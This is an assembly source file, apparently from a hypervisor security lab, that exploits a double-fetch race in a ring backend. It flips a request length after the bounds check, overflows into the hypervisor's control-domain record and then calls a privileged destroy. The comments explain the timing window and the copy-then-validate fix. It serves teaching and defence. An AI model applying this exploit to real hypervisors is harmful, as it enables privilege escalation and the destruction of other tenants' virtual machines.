# racer.S - wins the double fetch in the hypervisor's ring backend (XSA-155).
#
# The backend wakes PICKUP_DELAY (1,000) instructions after the doorbell,
# fetches the request and checks `len` (at most 240); COPY_DELAY (50)
# instructions later it copies `len` bytes into its 256-byte buffer. If it
# reads `len` from the shared page again for the copy, a change that lands
# between the two fetches is used unchecked: this program writes len = 260
# in that window. The copy runs 4 bytes past the buffer, into the
# hypervisor's record of which domain is the control domain, and writes our
# domid there (lib/race.S put it at data[256]). race_report then tries the
# privileged control API: VMCTL destroy(2).
#
# Too early (before the check) and the backend rejects the request; too late
# (after the copy) and it copies the honest 16 bytes. With
# dgram.copy_then_validate on, the backend copies the request once, when it
# checks it, and the change has no effect at any time: destroy is denied.

.include "lib/sbi.S"        # EID_..., the hypercall numbers

# The doorbell's ecall retires at T; the store below retires at T + 3 + 2 * DELAY
# (li, then two instructions a turn, li, sw). The backend checks after T + 1000 and
# copies after T + 1050, so DELAY from 499 to 523 lands in the window.
.equ DELAY, 511

.text
.globl _start
_start:
    call race_setup          # a0 = the ring page, an honest 16-byte LOG request in it
    mv   s0, a0
    li   a7, EID_DGRAM
    li   a6, DGRAM_DOORBELL  # doorbell(): wakes the backend; it has read nothing yet
    ecall
    li   t0, DELAY           # wait until the backend has checked len...
1:  addi t0, t0, -1
    bnez t0, 1b
    li   t1, 260             # ... then, before it copies, make len 260
    sw   t1, DGRAM_RING_LEN(s0)
    call race_report         # what the backend did; destroy(2) if it overflowed

.include "lib/race.S"      # race_setup, race_report
.include "lib/dbcn.S"      # puts(a0): print through the debug console
.include "lib/put_dec.S"   # put_dec(a0): print a number
